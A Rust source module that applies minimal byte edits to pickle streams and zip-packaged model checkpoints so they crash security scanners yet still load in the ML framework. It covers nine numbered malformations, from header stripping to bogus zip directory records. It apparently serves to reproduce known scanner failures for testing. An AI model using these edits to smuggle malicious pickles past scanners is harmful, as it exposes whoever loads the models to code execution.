//! Minimal byte edits that reproduce the known scanner-crashing archive and
//! stream shapes. Except for EOP-3, every edit leaves the file loadable by
//! the framework that normally reads it.

use super::ForgeError;
use crate::container::zip::{find_eocds, parse_central_directory, CdEntry, EOCD_SIG, ZIP64_LOCATOR_SIG};
use crate::container::{sniff, FormatTag};
use std::fmt;
use std::str::FromStr;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Eop {
    /// STACK_GLOBAL whose first operand sits at stream offset 0.
    Eop1,
    /// Legacy checkpoint whose magic pickle returns an unevaluable literal.
    Eop2,
    /// Unknown opcode in place of the final STOP.
    Eop3,
    /// Second end-of-central-directory record.
    Eop4,
    /// Central directory size of the pickle member disagrees with its data.
    Eop5,
    /// Junk between the central directory and its end record.
    Eop6,
    /// Zip64 locator naming a second disk.
    Eop7,
    /// Four undecodable bytes in a central directory extra field.
    Eop8,
    /// Version needed to extract raised to 6.4.
    Eop9,
}

impl Eop {
    pub const ALL: [Eop; 9] = [Eop::Eop1, Eop::Eop2, Eop::Eop3, Eop::Eop4, Eop::Eop5, Eop::Eop6, Eop::Eop7, Eop::Eop8, Eop::Eop9];

    pub fn number(self) -> u8 {
        self as u8 + 1
    }

    /// Whether the edited file still loads in the framework.
    pub fn loadable(self) -> bool {
        self != Eop::Eop3
    }

    pub fn on_zip(self) -> bool {
        self.number() >= 4
    }
}

impl fmt::Display for Eop {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "EOP-{}", self.number())
    }
}

impl FromStr for Eop {
    type Err = ForgeError;
    fn from_str(s: &str) -> Result<Self, ForgeError> {
        let n: Option<usize> = s.to_ascii_uppercase().strip_prefix("EOP-").and_then(|n| n.parse().ok());
        match n {
            Some(n @ 1..=9) => Ok(Eop::ALL[n - 1]),
            _ => Err(ForgeError::UnknownDirective(s.to_string())),
        }
    }
}

pub fn malform(input: &[u8], eop: Eop) -> Result<Vec<u8>, ForgeError> {
    let tag = sniff(input);
    let want = if eop.on_zip() { FormatTag::Zip } else { FormatTag::Pkl };
    if tag != want {
        return Err(ForgeError::DirectiveMismatch { directive: eop.to_string(), format: tag.label().to_string() });
    }
    match eop {
        Eop::Eop1 => strip_protocol_header(input),
        Eop::Eop2 => legacy_bad_magic(input),
        Eop::Eop3 => {
            if input.last() != Some(&b'.') {
                return Err(mismatch(eop, "stream does not end in STOP"));
            }
            let mut out = input.to_vec();
            *out.last_mut().unwrap() = 0xff;
            Ok(out)
        }
        _ => malform_zip(input, eop),
    }
}

fn mismatch(eop: Eop, why: &str) -> ForgeError {
    ForgeError::DirectiveMismatch { directive: eop.to_string(), format: why.to_string() }
}

/// Drop leading PROTO and FRAME so the first operand lands at offset 0.
fn strip_protocol_header(b: &[u8]) -> Result<Vec<u8>, ForgeError> {
    let mut p = 0;
    loop {
        match b.get(p) {
            Some(0x80) => p += 2,
            Some(0x95) => p += 9,
            _ => break,
        }
    }
    let rest = &b[p.min(b.len())..];
    // the import operands must be the first opcodes left
    if !matches!(rest.first(), Some(b'S' | b'X' | b'V' | 0x8c | b'U' | b'T')) {
        return Err(mismatch(Eop::Eop1, "stream does not open with a STACK_GLOBAL operand"));
    }
    Ok(rest.to_vec())
}

/// Turn a single-call pickle into the magic pickle of a legacy checkpoint:
/// the call runs, then the pickle returns a literal no scanner should
/// evaluate. The protocol pickle follows.
fn legacy_bad_magic(b: &[u8]) -> Result<Vec<u8>, ForgeError> {
    let Some(body) = b.strip_suffix(b".") else {
        return Err(mismatch(Eop::Eop2, "stream does not end in STOP"));
    };
    let mut out = body.to_vec();
    out.extend_from_slice(b"0L9**99\n.");
    out.extend_from_slice(b"\x80\x02M\xe9\x03.");
    out.extend_from_slice(b"\x80\x02}q\x00.");
    Ok(out)
}

struct ZipLayout {
    eocd_pos: usize,
    entries: Vec<CdEntry>,
}

fn layout(b: &[u8]) -> Result<ZipLayout, ForgeError> {
    let e = find_eocds(b).pop().ok_or_else(|| ForgeError::DirectiveMismatch {
        directive: "zip".into(),
        format: "no end of central directory record".into(),
    })?;
    let start = e.cd_offset as usize;
    let (entries, err) = parse_central_directory(b, start, start + e.cd_size as usize, usize::MAX);
    if err.is_some() || entries.is_empty() {
        return Err(ForgeError::DirectiveMismatch { directive: "zip".into(), format: "unreadable central directory".into() });
    }
    Ok(ZipLayout { eocd_pos: e.pos, entries })
}

/// The member holding the pickle: `data.pkl` if present, else the first.
fn target(entries: &[CdEntry]) -> &CdEntry {
    entries.iter().find(|e| e.name.ends_with("data.pkl")).unwrap_or(&entries[0])
}

fn put_u16(b: &mut [u8], p: usize, v: u16) {
    b[p..p + 2].copy_from_slice(&v.to_le_bytes());
}

fn put_u32(b: &mut [u8], p: usize, v: u32) {
    b[p..p + 4].copy_from_slice(&v.to_le_bytes());
}

fn get_u32(b: &[u8], p: usize) -> u32 {
    u32::from_le_bytes(b[p..p + 4].try_into().unwrap())
}

fn malform_zip(b: &[u8], eop: Eop) -> Result<Vec<u8>, ForgeError> {
    let z = layout(b)?;
    let t = target(&z.entries);
    let mut out = b.to_vec();
    match eop {
        Eop::Eop4 => {
            let rec = b[z.eocd_pos..z.eocd_pos + 22].to_vec();
            out.extend_from_slice(&rec);
        }
        Eop::Eop5 => {
            // one byte longer than the data; the local header stays truthful
            let n = t.csize as u32 + 1;
            put_u32(&mut out, t.header_pos + 20, n);
            put_u32(&mut out, t.header_pos + 24, n);
        }
        Eop::Eop6 => {
            out.splice(z.eocd_pos..z.eocd_pos, [0u8; 4]);
        }
        Eop::Eop7 => {
            let mut loc = ZIP64_LOCATOR_SIG.to_vec();
            loc.extend_from_slice(&1u32.to_le_bytes()); // disk holding the zip64 end record
            loc.extend_from_slice(&0u64.to_le_bytes());
            loc.extend_from_slice(&1u32.to_le_bytes()); // total disks
            out.splice(z.eocd_pos..z.eocd_pos, loc);
        }
        Eop::Eop8 => {
            let name_len = t.name.len();
            let extra_len = t.extra.len() as u16;
            let at = t.header_pos + 46 + name_len + t.extra.len();
            put_u16(&mut out, t.header_pos + 30, extra_len + 4);
            out.splice(at..at, *b"xxxx");
            let cd_size_at = z.eocd_pos + 4 + 12;
            let cd_size = get_u32(&out, cd_size_at) + 4;
            put_u32(&mut out, cd_size_at, cd_size);
        }
        Eop::Eop9 => {
            out[t.header_pos + 6] = 64;
        }
        _ => unreachable!("pickle directives handled by the caller"),
    }
    debug_assert_eq!(&out[out.len() - 22..out.len() - 18], EOCD_SIG);
    Ok(out)
}
